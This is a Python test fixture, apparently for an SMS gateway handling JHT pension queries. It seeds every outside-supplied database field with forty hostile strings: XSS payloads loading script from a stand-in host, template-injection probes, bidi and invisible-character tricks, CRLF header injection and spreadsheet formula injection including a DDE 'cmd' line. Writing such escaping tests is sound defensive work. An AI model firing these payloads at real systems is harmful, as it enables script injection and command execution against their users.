"""Forty hostile texts (reliability P11, T15 to T19), and a gateway whose every field from outside holds them.

Each bears MARK: on a page it may stand in text and in values of fields, never in a tag, an attribute's name, an address
or a title.
"""

from datetime import date
from typing import Final

from sqlalchemy import Connection, insert

from smsgw.members.tables import claims, complaints, memberships, people, subject_requests
from smsgw.messages.tables import inbound, outbound, outbound_event
from smsgw.operators import audit
from smsgw.operators.audit import Actor
from smsgw.store import Store

MARK: Final = "pwn"
PAYLOADS: Final = (
    # markup
    "<script>pwn(1)</script>",
    "</td></tr></table><script src=//pwn.example></script>",
    '"><img src=x onerror=pwn(1)>',
    "'><svg/onload=pwn(1)>",
    "<iframe src=javascript:pwn(1)>",
    '<a href="javascript:pwn(1)">JHT</a>',
    "javascript:pwn(1)",
    "data:text/html,<script>pwn(1)</script>",
    '<form action="//pwn.example"><button>KIRIM',
    '<meta http-equiv="refresh" content="0;url=//pwn.example">',
    "<base href=//pwn.example>",
    "<style>*{background:url(//pwn.example)}</style>",
    "<!--pwn",
    "]]>pwn<![CDATA[",
    "</textarea><pwn>",
    "</title><pwn>",
    '" autofocus onfocus="pwn(1)',
    "' style='background:url(//pwn.example)",
    "&lt;pwn&gt; &#60;pwn&#62; &amp;pwn;",
    "<pwn\x00script>",
    # templates
    "{{ 7 * 7 }} pwn",
    "{% raw %}pwn{% endraw %}",
    "{{ config.items() }} pwn",
    "${7*7} #{7*7} <%= 7*7 %> pwn",
    "%(pwn)s %s %n {pwn} {0}",
    # what reorders, hides or moves
    "JHT \u202e54321005081 pwn\u202c",
    "\u2066pwn\u2069 \u200eLRM \u200fRLM",
    "p\u200bwn pwn\u200d\ufeff",
    "pwn\u00ad soft \u034f joiner \u2800 blank \u3164 filler",
    "\x1b[2J\x1b[31mpwn\x07",
    "pwn\r\nX-Injected: 1\r\n\r\n<script>",
    "pwn\u2028line\u2029paragraph\x85next",
    "pwn\ud800lone\udfff",
    "\ue000pwn\U000f0000\U000e0041tag",
    "p" + "\u0301" * 40 + "wn pwn",
    # formulas
    '=HYPERLINK("//pwn.example","pwn")',
    "+62812 pwn",
    "-1+cmd|' /C pwn'!A0",
    "@SUM(1+1)*pwn",
    " \t=pwn \uff1dpwn",
)
PHONE: Final = "+6281210009977"
NUMBER: Final = "99051234567"
DAY_MS: Final = 86_400_000


def fill(store: Store) -> None:
    """One conversation a payload, from one phone: message, reply, report, request, claim, act; ids from 1."""
    with store.write() as connection:
        connection.execute(insert(people).values(id=1, nik="9973014107900003", name=PAYLOADS[0]))
        member = {"id": 1, "person_id": 1, "number": NUMBER, "status": "AKTIF", "segment": "PU"}
        connection.execute(insert(memberships).values(**member, employer=PAYLOADS[1]))
        for n, text in enumerate(PAYLOADS, 1):
            _conversation(connection, n, text)
            _around(connection, n, text)


def _conversation(connection: Connection, n: int, text: str) -> None:
    came = {"id": n, "carrier": "twilio", "carrier_id": f"SM{n}", "from_phone": PHONE, "to_phone": "2757"}
    times = {"received_at": n * DAY_MS, "next_attempt_at": n, "answered_at": n * DAY_MS + 1}
    word = {"source": "webhook", "state": "answered", "keyword": "JHT", "language": "id"}
    connection.execute(insert(inbound).values(**came, **times, **word, body=text, folded=f"JHT {NUMBER}"))
    went = {"id": n, "inbound_id": n, "kind": "reply", "carrier": "twilio", "from_phone": "2757", "to_phone": PHONE}
    sent = {"septets": 9, "template": "jht.balance", "language": "id", "priority": 0, "state": "failed"}
    stamps = {"next_attempt_at": n, "expires_at": n, "created_at": n * DAY_MS, "updated_at": n * DAY_MS}
    told = _storable(text).replace("\0", "")  # as a carrier's JSON could bring it
    error = {"error_code": "30003", "error_text": told, "callback_token": f"t{n}", "carrier_id": f"MM{n}"}
    connection.execute(insert(outbound).values(**went, **sent, **stamps, **error, body=text))
    step = {"from_state": "sending", "to_state": "failed", "cause": "send", "cause_key": "send:1"}
    connection.execute(insert(outbound_event).values(outbound_id=n, at=n, last_at=n, **step))


def _around(connection: Connection, n: int, text: str) -> None:
    asked = {"kind": "name", "membership_id": 1, "state": "open", "asked_by": "rina", "asked_at": n}
    connection.execute(insert(subject_requests).values(**asked, value=text))
    report = {"number": f"L2511-{n:05}", "inbound_id": n, "phone": PHONE, "state": "received"}
    connection.execute(insert(complaints).values(**report, text=text, filed_at=n, changed_at=n))
    claim = {"id": n, "number": f"K2511-{n:05}", "membership_id": 1, "programme": "JHT", "stage": 3, "state": "open"}
    connection.execute(insert(claims).values(**claim, filed_on=date(2025, 11, 1), changed_on=date(2025, 11, 2)))
    audit.add(connection, Actor("cli"), "reveal", f"inbound/{n}", _storable(text), n)


def _storable(text: str) -> str:
    return text.encode("utf-8", "replace").decode()
